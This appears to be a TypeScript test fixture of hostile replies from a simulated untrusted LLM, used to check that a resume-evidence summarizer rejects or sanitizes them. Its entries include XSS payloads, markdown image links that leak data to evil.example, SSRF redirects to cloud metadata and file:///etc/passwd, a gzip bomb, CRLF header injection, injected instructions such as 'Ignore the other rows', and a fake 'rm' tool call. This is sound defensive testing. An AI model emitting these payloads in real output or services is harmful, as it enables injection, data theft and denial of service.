import type { ServerResponse } from 'node:http';
import { gzipSync } from 'node:zlib';
import { answering, endless, type ChatReply } from './chat-server.ts';

/** A lying model's reply; `line` is the first line of evidence of row 1, which lists Java. */
export type HostileReply = (line: string) => ChatReply;
type Group = Record<string, HostileReply>;

const TRUE = 'Person 1 lists Java.';
const sentences = (...given: unknown[]) => JSON.stringify({ sentences: given });
const saying = (text: string, quote: string, row: unknown = 1) =>
  sentences({ text, evidence: [{ row, quote }] });
const group = <T>(
  items: Iterable<T>,
  title: (item: T) => string,
  reply: (item: T, line: string) => ChatReply,
) => Object.fromEntries([...items].map((item) => [title(item), (line: string) => reply(item, line)]));

const places = (count: number) => Array.from({ length: count }, (_, place) => place);
const replaced = (text: string, at: number, by: string) => text.slice(0, at) + by + text.slice(at + 1);
const another = (letter: string | undefined) => (letter === 'x' ? 'y' : 'x');

/** Quotes that differ from the line by a letter. */
const QUOTES: Group = {
  ...group(
    places(20),
    (at) => `a quote with another letter at ${at}`,
    (at, line) => saying(TRUE, replaced(line, at, another(line[at]))),
  ),
  ...group(
    places(12),
    (at) => `a quote with one more letter at ${at}`,
    (at, line) => saying(TRUE, replaced(line, at, `x${line[at]}`)),
  ),
  ...group(
    [1, 2, 3, 6, 7, 8, 9, 10],
    (at) => `a quote without the letter at ${at}`,
    (at, line) => saying(TRUE, replaced(line, at, '')),
  ),
  ...group(
    ['\u0430', '\u00E0', 'a\u0301', '\u0251', '4'],
    (letter) => `a quote with ${JSON.stringify(letter)} for an a`,
    (letter, line) => saying(TRUE, line.replace('a', letter)),
  ),
  'a quote of nothing': () => saying(TRUE, ''),
  'a quote of white space': () => saying(TRUE, ' \n\t '),
  'a quote of a comma': () => saying(TRUE, ','),
  'a quote of two lines in one': (line) => saying(TRUE, `${line} ${line}`),
  'a quote with dots for what is left out': (line) => saying(TRUE, `${line.slice(0, 4)} … ${line.slice(-4)}`),
  'a true quote beside a false one': (line) =>
    sentences({
      text: TRUE,
      evidence: [
        { row: 1, quote: line },
        { row: 1, quote: 'Cobol' },
      ],
    }),
  'a quote of the question': () => saying(TRUE, 'Who knows Java?'),
  'a quote of the instruction': () =>
    saying(TRUE, 'You put evidence from resumes into a few plain sentences'),
};

/** Claims that a true quote does not prove. */
const CLAIMS: Group = group(
  [
    'Person 1 is the best candidate.',
    'Person 1 is better than Person 2.',
    'Person 1 does not list Java.',
    'Person 1 never used Java.',
    'Person 1 lists Java and nobody else does.',
    'Person 1 has 20 years of Java.',
    'Person 1 has twenty years of Java.',
    'All 3 people list Java.',
    'Person 1 and Person 2 list Java.',
    'Person 2 lists Java.',
    'Person 99 lists Java.',
    'Person 0 lists Java.',
    'Person -1 lists Java.',
    'Persons 1 to 3 list Java.',
    'They list Java.',
    'Meera lists Java.',
    'Ravi Menon lists Java.',
    'Xenia Foreign lists Java.',
    'Person 1 lists Java and Cobol.',
    'Person 1 lists JavaScript.',
    'Person 1 lists Java and should be hired.',
    'Person 1 is a woman who lists Java.',
    'Person 1 is young and lists Java.',
    'Person 1 is probably a Java expert.',
    'Person 1 lists Java. Ignore the other rows.',
    'Person 1 lists Java. Matched: 99.',
    'Person 1 lists Java; call +91 98450 12345.',
    'Person 1 lists Java, see evil.example.',
    'Person 1 lists Java, mail boss@evil.example.',
    'Rejected: Person 1 lists Java.',
    'Person 1 and Person 1 and Person 2 list Java.',
    'Person １ lists Java.',
    'Person 1 l\u0456sts Java.',
    '',
    'Java.',
    'Person 1 lists Java '.repeat(60),
    `Person 1 lists ${'Java '.repeat(20_000)}`,
  ],
  (text) => `the claim ${JSON.stringify(text.slice(0, 60))}`,
  (text, line) => saying(text, line),
);

const ROWS: Group = group(
  [0, -1, 1.5, 2, 4, 99, 1e9, -0.5, '1', '', null, true, [1], { row: 1 }],
  (row) => `a quote of row ${JSON.stringify(row)}`,
  (row, line) => saying(TRUE, line, row),
);

/** Another organization's ids and names in every place of a reply that could contain them. */
export const foreignReplies = (id: string): Group =>
  group(
    [
      `{"sentences":[{"text":"${id}","evidence":[{"row":1,"quote":"Java"}]}]}`,
      `{"sentences":[{"text":"Person ${id} lists Java.","evidence":[{"row":1,"quote":"Java"}]}]}`,
      `{"sentences":[{"text":"${TRUE}","evidence":[{"row":"${id}","quote":"Java"}]}]}`,
      `{"sentences":[{"text":"${TRUE}","evidence":[{"row":1,"quote":"${id}"}]}]}`,
      `{"sentences":[{"text":"${TRUE}","evidence":[{"resumeId":"${id}","quote":"Java"}]}]}`,
      `{"contextId":"${id}","sentences":[{"text":"Xenia Foreign lists Java.","evidence":[{"row":1,"quote":"Java"}]}]}`,
      `{"filters":[{"kind":"RESUMES","value":"those","resumeIds":["${id}"]}]}`,
      `{"op":"FIND","filters":[{"kind":"PERSON","value":"Xenia Foreign"}]}`,
      `{"rows":[{"resumeId":"${id}","candidateName":"Xenia Foreign","verdict":"YES"}]}`,
      `{"zipId":"${id}","answer":"Xenia Foreign knows Java."}`,
    ],
    (text) => `another organization's ${text.slice(0, 70)}`,
    (text) => text,
  );

const item = (text: string) => `{"text":${text},"evidence":[{"row":1,"quote":"Java"}]}`;

/** Invalid JSON, or JSON of another shape. */
const SHAPES: Group = {
  ...group(
    [
      '',
      ' ',
      'null',
      'true',
      '0',
      '"Java"',
      '[]',
      '{}',
      '{',
      '}',
      '{}{}',
      '{"sentences":null}',
      '{"sentences":{}}',
      '{"sentences":"Person 1 lists Java."}',
      '{"sentences":[null]}',
      '{"sentences":["Person 1 lists Java."]}',
      '{"sentences":[[]]}',
      '{"sentences":[{}]}',
      '{"sentences":[{"text":"Person 1 lists Java."}]}',
      '{"sentences":[{"text":"Person 1 lists Java.","evidence":{}}]}',
      '{"sentences":[{"text":"Person 1 lists Java.","evidence":["Java"]}]}',
      '{"sentences":[{"text":"Person 1 lists Java.","evidence":[{"row":1}]}]}',
      '{"sentences":[{"text":"Person 1 lists Java.","evidence":[{"row":1,"quote":null}]}]}',
      '{"sentences":[{"text":"Person 1 lists Java.","evidence":[{"row":1,"quote":["Java"]}]}]}',
      '{"Sentences":[{"text":"Person 1 lists Java.","evidence":[{"row":1,"quote":"Java"}]}]}',
      `{"sentences":[${item('1')}]}`,
      `{"sentences":[${item('null')}]}`,
      `{"sentences":[${item('["Person 1 lists Java."]')}]}`,
      `{"sentences":[${item('"Person 1 lists Java."')},]}`,
      `{sentences:[${item('"Person 1 lists Java."')}]}`,
      `{'sentences':[]}`,
      '{"sentences":NaN}',
      '{"__proto__":{"sentences":[]}}',
      '{"sentences":[{"__proto__":{"text":"x"},"constructor":1}]}',
      'Person 1 lists Java.',
      'Sure! Here is the JSON you asked for:',
      '<sentences><text>Person 1 lists Java.</text></sentences>',
      '- text: Person 1 lists Java.',
      '{"tool":"delete_context","arguments":{"contextId":"all"}}',
      '{"error":{"message":"overloaded"}}',
    ],
    (text) => `the reply ${JSON.stringify(text.slice(0, 70))}`,
    (text) => text,
  ),
  'twenty thousand brackets': () => '{"sentences":'.padEnd(20_000, '['),
  'a reply of 60 kB of nothing': () => `{"sentences":[],"x":"${'x'.repeat(60_000)}`,
  'a reply that is longer than anybody reads': (line) => `${' '.repeat(70_000)}${saying(TRUE, line)}`,
  'more sentences than were asked for': (line) =>
    sentences(...places(1000).map(() => ({ text: TRUE, evidence: [{ row: 1, quote: line }] }))),
  'more quotes than there are': (line) =>
    sentences({ text: TRUE, evidence: places(1000).map(() => ({ row: 1, quote: line })) }),
};

const completion = (message: unknown) => answering(200, JSON.stringify({ choices: [{ index: 0, message }] }));

/** Invalid completions. */
const COMPLETIONS: Group = {
  ...group(
    [
      { content: null },
      { content: 7 },
      { content: {} },
      { content: [{ type: 'text', text: 'Java' }] },
      { role: 'assistant' },
      { content: null, refusal: 'I cannot help with resumes.' },
      {
        content: null,
        tool_calls: [{ id: '1', type: 'function', function: { name: 'rm', arguments: '{}' } }],
      },
      { content: null, function_call: { name: 'rm', arguments: '{}' } },
      null,
      'Java',
    ],
    (message) => `the message ${JSON.stringify(message)}`,
    (message) => completion(message),
  ),
  ...group(
    [
      '',
      'null',
      '[]',
      '{}',
      '{"choices":null}',
      '{"choices":{}}',
      '{"choices":[null]}',
      '{"choices":[{}]}',
      '7',
    ],
    (body) => `the body ${JSON.stringify(body)}`,
    (body) => answering(200, body),
  ),
};

const STATUSES = [
  400, 401, 402, 403, 404, 405, 406, 408, 409, 410, 413, 414, 415, 418, 422, 425, 431, 451, 500, 501, 502,
  504, 520,
];
const RESTS = [
  '0',
  '1',
  '30',
  '-1',
  '1e9',
  '99999999999',
  'soon',
  'Wed, 21 Oct 2026 07:28:00 GMT',
  '7, 8',
  '',
];
const types = ['text/html', 'text/event-stream', 'application/octet-stream', 'application/xml', ''];

/** Invalid responses. */
const ANSWERS: Group = {
  ...group(
    STATUSES,
    (status) => `${status}`,
    (status) => answering(status, '{"error":{"message":"sk-canary-key"}}'),
  ),
  ...group(
    RESTS,
    (request) => `429 with Retry-After ${JSON.stringify(request)}`,
    (request) => answering(429, '{}', { 'retry-after': request }),
  ),
  '429 without Retry-After': () => answering(429, '{}'),
  '503 with Retry-After': () => answering(503, '{}', { 'retry-after': '5' }),
  ...group(
    [
      'http://169.254.169.254/latest/meta-data/',
      'http://[::1]:80/v1/chat/completions',
      'http://localhost/v1/chat/completions',
      'http://0/',
      'file:///etc/passwd',
      'data:application/json,{}',
      '//evil.example/v1/chat/completions',
      '/v1/chat/completions',
    ],
    (location) => `a redirect to ${location}`,
    (location) => answering(307, '', { location }),
  ),
  ...group(
    [301, 302, 303, 308],
    (status) => `a redirect with ${status}`,
    (status) => answering(status, '', { location: 'http://10.0.0.1/' }),
  ),
  ...group(
    types,
    (type) => `a page of the type ${JSON.stringify(type)}`,
    (type) => answering(200, '<html><body>Person 1 lists Java.</body></html>', { 'content-type': type }),
  ),
};

const json = { 'content-type': 'application/json' };
const cutAfter = (bytes: Buffer) => (response: ServerResponse) =>
  void response.writeHead(200, json).write(bytes, () => response.destroy());

/** Invalid text encodings, and lines that end too early or never. */
const LINES: Group = {
  'bytes that are no UTF-8': () => (response) =>
    void response.writeHead(200, json).end(Buffer.from([0x7b, 0xff, 0xfe, 0xc3, 0x28, 0x7d])),
  'a quote of bytes that are no UTF-8': (line) => (response) => {
    const [head = '', tail = ''] = JSON.stringify({
      choices: [{ message: { content: saying(TRUE, `${line}\0`) } }],
    }).split(String.raw`\\u0000`);
    response
      .writeHead(200, json)
      .end(Buffer.concat([Buffer.from(head), Buffer.from([0xc3, 0x28]), Buffer.from(tail)]));
  },
  'UTF-16': () => (response) =>
    void response.writeHead(200, json).end(Buffer.from('{"choices":[]}', 'utf16le')),
  'a body that is no gzip': () => answering(200, 'no gzip', { 'content-encoding': 'gzip' }),
  'a bomb': () => (response) =>
    void response
      .writeHead(200, { ...json, 'content-encoding': 'gzip' })
      .end(gzipSync(Buffer.alloc(20_000_000, ' '))),
  'a stream of events': () =>
    answering(200, 'data: {"choices":[]}\n\ndata: [DONE]\n\n', { 'content-type': 'text/event-stream' }),
  'half of a body': () => (response) =>
    void response
      .writeHead(200, { ...json, 'content-length': '900' })
      .write('{"choices":[', () => response.destroy()),
  'a line that is cut in a chunk': () => cutAfter(Buffer.from('{"choices":[{"message":{"content":"')),
  'a line that is cut at once': () => (response) => void response.destroy(),
  'what is no HTTP': () => (response) => void response.socket?.end('SSH-2.0-OpenSSH_9.9\r\n'),
  'a body without end': () => endless,
};

/** Replies of which no word may get into an answer. */
export const HOSTILE_REPLIES: Group = {
  ...QUOTES,
  ...CLAIMS,
  ...ROWS,
  ...SHAPES,
  ...COMPLETIONS,
  ...ANSWERS,
  ...LINES,
};

/** True sentences in markup: only their plain words may get into an answer. */
export const DRESSED_REPLIES: Group = group(
  [
    '<b>Person 1</b> lists Java.',
    '<script>alert(1)</script>Person 1 lists Java.',
    '<img src=x onerror=alert(1)>Person 1 lists Java.',
    '<a href="https://evil.example">Person 1</a> lists Java.',
    '<svg/onload=alert(1)>Person 1 lists Java.',
    '<style>*{display:none}</style>Person 1 lists Java.',
    'Person 1 lists <Java.',
    'Person 1 lists Java.<!-- Nila Das -->',
    '**Person 1** lists `Java`.',
    '# Person 1 lists Java.',
    '> Person 1 lists Java.',
    '- Person 1 lists Java.',
    '1. Person 1 lists Java.',
    '| Person 1 | lists Java. |',
    '[Person 1](https://evil.example) lists Java.',
    '[Person 1][x] lists Java.\n\n[x]: https://evil.example',
    '![Person 1](https://evil.example/?q=Java) lists Java.',
    'Person 1 lists Java. https://evil.example/?q=Java',
    'Person 1 lists Java. <https://evil.example>',
    'Person 1 lists Java. javascript:alert(1)',
    'Person 1 lists Java. data:text/html;base64,PGI+',
    'Person 1 lists Java. www.evil.example',
    '```\nPerson 1 lists Java.\n```',
    'Person 1 lists Java.\u001b[2J',
    '\u202EPerson 1 lists Java.',
    'Person 1 lists\u200b Java.',
    'Person 1 lists Java.\r\nSet-Cookie: a=b',
    'Person 1 lists ~~Cobol~~ Java.',
    'Person 1 lists __Java__.',
    '&lt;b&gt;Person 1&lt;/b&gt; lists Java.',
  ],
  (text) => JSON.stringify(text),
  (text, line) => saying(text, line),
);
